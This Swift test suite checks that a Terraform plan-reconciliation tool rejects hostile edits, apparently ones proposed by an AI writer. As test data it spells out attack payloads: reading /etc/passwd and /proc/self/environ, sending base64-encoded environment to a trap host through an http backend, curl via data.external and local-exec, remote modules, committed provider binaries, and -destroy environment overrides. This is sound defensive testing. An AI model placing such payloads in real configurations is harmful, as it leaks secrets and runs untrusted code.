import Domain
import Foundation
import Reconciliation
import TerraformAdapter
import TestSupport
import Testing

/// What a plan of untrusted code can do to the machine that makes it, one test each: none of it gets to Terraform.
@Suite("Attacks on the machine that plans")
struct AttackTests {
    private static let path = "workspaces/web/main.tf"
    private static let head = "# one carries the load."
    private static let inside = "resource \"terraform_data\" \"one\" {"

    /// An answer's edit; `{trap}` is the address of a server that nobody may call.
    struct Answer: Sendable, CustomTestStringConvertible {
        let testDescription: String
        let search: String
        let replace: String
        let reason: String
    }

    static let answers = [
        Answer(
            testDescription: "1: reads a file of the machine", search: "\"i-1\"", replace: "file(\"/etc/passwd\")",
            reason: "'file(\"/etc/passwd\")' is not allowed: it reads files of the machine"),
        Answer(
            testDescription: "2: reads the environment", search: "\"i-1\"", replace: "file(\"/proc/self/environ\")",
            reason: "'file(\"/proc/self/environ\")' is not allowed: it reads files of the machine"),
        Answer(
            testDescription: "3: sends it away at plan time without any provider", search: head,
            replace: """
                data "terraform_remote_state" "x" {
                  backend = "http"
                  config = {
                    address = "{trap}/?leak=${base64encode(file("/proc/self/environ"))}"
                  }
                }
                """,
            reason: "data.terraform_remote_state.x may not change: it reads at plan time"),
        Answer(
            testDescription: "5: runs a program as a data source", search: head,
            replace: "data \"external\" \"x\" {\n  program = [\"curl\", \"{trap}\"]\n}",
            reason: "data.external.x may not change: it reads at plan time"),
        Answer(
            testDescription: "5: reaches the network as a data source", search: head,
            replace: "data \"http\" \"x\" {\n  url = \"{trap}\"\n}",
            reason: "data.http.x may not change: it reads at plan time"),
        Answer(
            testDescription: "6: lets a provider's configuration run a program", search: head,
            replace: "provider \"aws\" {\n  shared_config_files = [\"./evil\"]\n}",
            reason: "provider.aws may not change: it decides whose credentials are used"),
        Answer(
            testDescription: "7: fetches a module", search: head,
            replace: "module \"x\" {\n  source = \"{trap}/m.zip\"\n}",
            reason: "module.x may not change: its source is code that nobody here has read"),
        Answer(
            testDescription: "7: takes the state elsewhere", search: head,
            replace: "terraform {\n  backend \"http\" {\n    address = \"{trap}\"\n  }\n}",
            reason: "terraform may not change: it holds the backend and the providers"),
        Answer(
            testDescription: "8: runs a command at apply", search: inside,
            replace: inside + "\n  provisioner \"local-exec\" {\n    command = \"curl {trap}\"\n  }",
            reason: "'provisioner' of terraform_data.one may not change: it runs commands at apply"),
        Answer(
            testDescription: "10: asks for a million", search: inside, replace: inside + "\n  count = 1000000",
            reason: "'count' of terraform_data.one may not change: it adds or removes instances"),
    ]

    @Test("in an answer", arguments: answers)
    func answer(attack: Answer) async throws {
        let trap = try LoopbackServer { _ in .text(200, "{}") }
        let stage = try await LoopStage.oneMachine()
        let replace = attack.replace.replacing("{trap}", with: trap.url)
        let edit = Edit(path: Self.path, search: attack.search, replace: replace)
        let benches = CountingInfrastructure(stage.terraform)
        var world = try stage.world(writer: ScriptedWriter(Array(repeating: .success(.edits([edit])), count: 3)))
        world.infrastructure = benches
        let report = try await Reconciler(world: world, settings: stage.settings()).run()
        #expect(report.proposals.first?.reason?.contains(attack.reason) == true, "\(report.proposals.map(\.reason))")
        #expect(try await stage.refs().keys.allSatisfy { !$0.hasPrefix("refs/heads/sphinx/") })
        // The base's plan and the schema; no bench is opened for the answer.
        #expect(benches.count == 2 && trap.requests.isEmpty)
    }

    @Test(
        "4: a provider that the repository brought along is not run",
        arguments: [
            "workspaces/web/.terraform/providers/x/terraform-provider-null_v3.2.0_x5",
            "workspaces/web/terraform.d/plugins/x/terraform-provider-null_v3.2.0_x5",
        ])
    func committedProvider(file: String) async throws {
        let stage = try await LoopStage.oneMachine()
        let ran = stage.folder.file("ran")
        try stage.folder.write("#!/bin/sh\ntouch \(ran)\n", to: "person/\(file)")
        try FileManager.default.setAttributes(
            [.posixPermissions: 0o755], ofItemAtPath: stage.folder.file("person/\(file)"))
        try await Shell.git("add", "-f", "-A", in: stage.person)
        try await stage.commit([:], "Bring a provider along")
        let report = try await stage.reconcile()
        #expect(report.proposals.map(\.state) == [.failed])
        #expect(
            report.proposals.map(\.reason) == ["web: '\(file)' is committed, and Terraform would trust it"])
        #expect(!FileManager.default.fileExists(atPath: ran))
    }

    @Test("9: the environment does not steer Terraform, nor do files that an answer adds")
    func environment() async throws {
        let stage = try await LoopStage.oneMachine()
        var settings = Terraform.Settings(
            scratchFolder: stage.folder.file("scratch"), localStateFolder: stage.folder.file("state"),
            keptFolder: stage.folder.file("kept"), environment: stage.environment)
        for (name, value) in [
            ("TF_CLI_ARGS", "-destroy"), ("TF_CLI_ARGS_plan", "-destroy"), ("TF_DATA_DIR", "/nowhere"),
            ("TF_CLI_CONFIG_FILE", "/nowhere"), ("TF_WORKSPACE", "other"), ("TF_REATTACH_PROVIDERS", "{"),
            ("TF_LOG_PATH", stage.folder.file("log")), ("TF_LOG", "trace"),
        ] { settings.environment[name] = value }
        var world = try stage.world()
        world.infrastructure = Terraform(settings)
        let report = try await Reconciler(world: world, settings: stage.settings()).run()
        #expect(report.proposals.map(\.planSummary) == ["0 to add, 1 to change, 0 to destroy"])
        #expect(!stage.folder.exists("log"))
        let other = try await LoopStage.oneMachine()
        for name in ["evil.auto.tfvars", "main_override.tf", "evil.tf.json"] {
            let edit = Edit(path: "workspaces/web/\(name)", search: "", replace: "{}")
            let writer = ScriptedWriter(Array(repeating: .success(.edits([edit])), count: 3))
            let reason = try await other.reconcile(writer: writer).proposals.first?.reason
            #expect(reason == "'workspaces/web/\(name)' is not one of the files that were sent")
            try await other.commit(["workspaces/web/note-\(name).txt": "x"], "Another question")
        }
    }

    @Test("a link that leads out of the repository is not followed")
    func link() async throws {
        let stage = try await LoopStage.oneMachine()
        try FileManager.default.createSymbolicLink(
            atPath: stage.folder.file("person/workspaces/web/passwd.tf"), withDestinationPath: "/etc/passwd")
        try await stage.commit([:], "Link out")
        let writer = ScriptedWriter([])
        let report = try await stage.reconcile(writer: writer)
        #expect(writer.conversations.isEmpty && report.proposals.isEmpty)
        #expect(
            report.problems.map(\.description) == [
                "workspaces/web/passwd.tf:1:1: the file is a symbolic link, which is not followed; commit the file itself, or make it a module"
            ])
    }
}
